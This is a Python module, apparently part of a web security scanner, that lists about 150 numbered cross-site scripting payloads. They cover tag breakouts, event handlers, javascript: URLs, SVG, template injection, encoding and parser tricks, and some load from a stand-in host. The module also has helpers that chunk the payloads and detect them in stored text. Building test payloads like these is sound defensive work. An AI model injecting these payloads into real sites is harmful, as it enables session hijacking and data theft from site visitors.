"""What somebody might write to have it run in another's browser, or to have that browser tell another host.

Each calls `hit(#)` or asks x.test for it, where # becomes the payload's number. Short, so that they fit into short
fields; those that swallow what follows them stand last."""

from __future__ import annotations

from moothall.core.text import tidy

SCRIPTS = [
    "<script>hit(#)</script>",
    "<ScRiPt >hit(#)</sCrIpT >",
    "<script/x>hit(#)</script>",
    "<script\n>hit(#)\n</script\n>",
    "<script type=module>hit(#)</script>",
    "<script src=//x.test/#></script>",
    "<script src=data:,hit(#)></script>",
    "<script async src=data:,hit(#)></script>",
    "<scr<script>ipt>hit(#)</scr</script>ipt>",
    "</script><script>hit(#)</script>",
    "--><script>hit(#)</script>",
    "]]><script>hit(#)</script>",
    "</title><script>hit(#)</script>",
    "</textarea><script>hit(#)</script>",
    "</style><script>hit(#)</script>",
    "</select><script>hit(#)</script>",
    "</template><script>hit(#)</script>",
    "</noscript><script>hit(#)</script>",
    "</svg></a></p><script>hit(#)</script>",
    "';hit(#);'",
    '";hit(#);"',
    "\\';hit(#);//",
    "`;hit(#);`",
    "${hit(#)}",
    "*/hit(#)/*",
    '");hit(#);("',
    "\n;hit(#)\n",
]
ATTRIBUTES = [
    '"><script>hit(#)</script>',
    "'><script>hit(#)</script>",
    "\"'><svg onload=hit(#)>",
    '" onfocus=hit(#) autofocus x="',
    "' onfocus=hit(#) autofocus x='",
    '" onfocus="hit(#)" autofocus x="',
    "x onfocus=hit(#) autofocus tabindex=1",
    '"><img src=x onerror=hit(#)>',
    '" onanimationstart="hit(#)',
    "<img src=x onerror=hit(#)>",
    "<img/src=x/onerror=hit(#)>",
    "<IMG SRC=x ONERROR=hit(#)>",
    "<img src=x onerror\n=hit(#)>",
    '<img src=x:x onerror="hit(#)">',
    "<img srcset=x onerror=hit(#)>",
    "<img src=x onerror=&#104;it(#)>",
    "<input autofocus onfocus=hit(#)>",
    "<input type=image src=x onerror=hit(#)>",
    "<p tabindex=1 autofocus onfocus=hit(#)>",
    "<p contenteditable autofocus onfocus=hit(#)>",
    "<body onload=hit(#)>",
    "<body onpageshow=hit(#)>",
    "<details open ontoggle=hit(#)>x",
    "<p hx-on:load=hit(#)>x</p>",
    "<p hx-get=//x.test/# hx-trigger=load>x</p>",
    "<p data-complete=//x.test/#>x</p>",
    "<custom-one onload=hit(#)></custom-one>",
    '<a title="`<img src=x onerror=hit(#)>`">x</a>',
]
ADDRESSES = [
    "javascript:hit(#)",
    "javascript://%0ahit(#)",
    "JaVaScRiPt&colon;hit(#)",
    "data:text/html,<script>hit(#)</script>",
    "//x.test/#",
    "https://x.test/#?<img src=x onerror=hit(#)>",
    'https://x.test/#"onmouseover=hit(#) x="',
    "<a href=javascript:hit(#)>x</a>",
    "<a href=JaVaScRiPt:hit(#)>x</a>",
    '<a href=" javascript:hit(#)">x</a>',
    '<a href="java\tscript:hit(#)">x</a>',
    '<a href="&#106;avascript:hit(#)">x</a>',
    "<a href=vbscript:hit(#)>x</a>",
    "<a href=data:text/html,<script>hit(#)</script>>x</a>",
    "<a ping=//x.test/# href=/>x</a>",
    "<button formaction=javascript:hit(#)>x</button>",
    "<form action=javascript:hit(#)><input type=submit></form>",
    "<form action=//x.test/#><button>x</button></form>",
    "<base href=//x.test/#/>",
    "<meta http-equiv=refresh content=0;//x.test/#>",
    "<link rel=stylesheet href=//x.test/#>",
    "<link rel=preload as=image href=//x.test/#>",
    "<img src=//x.test/#>",
    "<img srcset=//x.test/#>",
    "<picture><source srcset=//x.test/#><img></picture>",
    "<embed src=//x.test/#>",
]
DRAWINGS = [
    "<svg onload=hit(#)></svg>",
    "<svg/onload=hit(#)></svg>",
    "<svg\x0conload=hit(#)></svg>",
    "<svg><script>hit(#)</script></svg>",
    "<svg><script href=data:,hit(#) /></svg>",
    "<svg><animate onbegin=hit(#) attributeName=x></svg>",
    "<svg><set onbegin=hit(#) attributename=x></svg>",
    "<svg><image href=//x.test/#></svg>",
    "<svg><a href=javascript:hit(#)><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=hit(#)></svg>",
    "<math href=javascript:hit(#)>x</math>",
]
TEMPLATES = [
    "{{hit(#)}}",
    "{{7*7}}{{''.__class__}}hit(#)",
    "{%raw%}hit(#){%endraw%}",
    "{%include '/etc/passwd'%}hit(#)",
    "#{hit(#)}<%=hit(#)%>",
    "%(hit)s%(name)s%s%d hit(#)",
    "{0}{name.__class__} hit(#)",
    "[[hit(#)]]{[hit(#)]}",
]
MARKDOWN = [
    "[x](javascript:hit(#))",
    "![x](//x.test/#)",
    "[x]: javascript:hit(#)",
    "<javascript:hit(#)>",
    "`<img src=x onerror=hit(#)>`",
    '[x](/ "><img src=x onerror=hit(#)>")',
]
STYLES = [
    '" style="background:url(//x.test/#)',
    "<p style=background:url(//x.test/#)>x</p>",
    "<style>*{background:url(//x.test/#)}</style>",
    '<style>@import"//x.test/#";</style>',
    "<style>*{animation:hit#}</style>hit(#)",
]
ENCODINGS = [
    "&lt;script&gt;hit(#)&lt;/script&gt;",
    "&#60;script&#62;hit(#)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=hit(#)&amp;gt;",
    "%3Cscript%3Ehit(#)%3C/script%3E",
    "\\x3cscript\\x3ehit(#)\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=hit(#)\\u003e",
    "＜script＞hit(#)＜/script＞",
    "﹤img src=x onerror=hit(#)﹥",
    "+ADw-script+AD4-hit(#)+ADw-/script+AD4-",
    "<script>\\u0068it(#)</script>",
    "<scr\0ipt>hit(#)</scr\0ipt>",
    "<img src=x on\u200berror=hit(#)>",
    "<img src=x \u202eonerror=hit(#)>",
    "\u2028hit(#)\u2029",
    "<ımg src=x onerror=hit(#)>",
    "¼script¾hit(#)¼/script¾",
]
SWALLOWING = [
    "<p id='</p><img src=x onerror=hit(#)>'>",
    "<!--><img src=x onerror=hit(#)>-->",
    "<!-- --!><img src=x onerror=hit(#)>",
    "<![CDATA[><img src=x onerror=hit(#)>]]>",
    "<?x ><img src=x onerror=hit(#)>?>",
    "<svg><style><img src=x onerror=hit(#)>",
    "<svg><p><style><g id='</style><img src=x onerror=hit(#)>'>",
    "<math><style><!--</style><img src=x onerror=hit(#)>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(#)>",
    "<table><td><style></table><img src=x onerror=hit(#)>",
    "<noscript><p title='</noscript><img src=x onerror=hit(#)>'>",
    "<xmp><p title='</xmp><img src=x onerror=hit(#)>'>",
    "<video src=x onerror=hit(#)></video>",
    "<video poster=//x.test/#></video>",
    "<video><source onerror=hit(#) src=x></video>",
    "<audio src=x onerror=hit(#)></audio>",
    "<marquee onstart=hit(#)>x</marquee>",
    "<iframe onload=hit(#)></iframe>",
    "<iframe src=javascript:parent.hit(#)></iframe>",
    "<iframe srcdoc='<script>parent.hit(#)</script>'></iframe>",
    "<object data=javascript:hit(#)></object>",
    "<object data=//x.test/#></object>",
    "<select autofocus onfocus=hit(#)></select>",
    "<textarea autofocus onfocus=hit(#)></textarea>",
    "<template><img src=x onerror=hit(#)></template>",
    "<a id=htmx name=htmx href=//x.test/#>x</a>",
    "<form id=document name=forms><input name=elements>hit(#)",
]
_ALL = [
    *(*SCRIPTS, *ATTRIBUTES, *ADDRESSES, *DRAWINGS, *TEMPLATES, *MARKDOWN, *STYLES, *ENCODINGS),
    *SWALLOWING,
]
PAYLOADS = [one.replace("#", str(number)) for number, one in enumerate(_ALL)]
_TIDY = [tidy(one) for one in PAYLOADS]
# Of use in whatever it lands in: what one that is the only one of its kind is called.
EVERYWHERE = PAYLOADS[_ALL.index("\"'><svg onload=hit(#)>")]


def chunks(cap: int) -> list[str]:
    """All payloads that fit into `cap` letters, in as few texts of at most `cap` letters as comes easily (first fit),
    each in the payloads' order."""
    found: list[list[str]] = []
    left: list[int] = []
    for one in PAYLOADS:
        if len(one) > cap:
            continue
        place = next((n for n, room in enumerate(left) if room > len(one)), len(left))
        if place == len(left):
            found.append([])
            left.append(cap + 1)
        found[place].append(one)
        left[place] -= len(one) + 1
    return [" ".join(parts) for parts in found]


def held_in(text: str) -> set[int]:
    """The numbers of the payloads that stand in a text as they were kept: tidied, or as they were sent."""
    flat = tidy(text)
    return {number for number, one in enumerate(_TIDY) if one in flat}
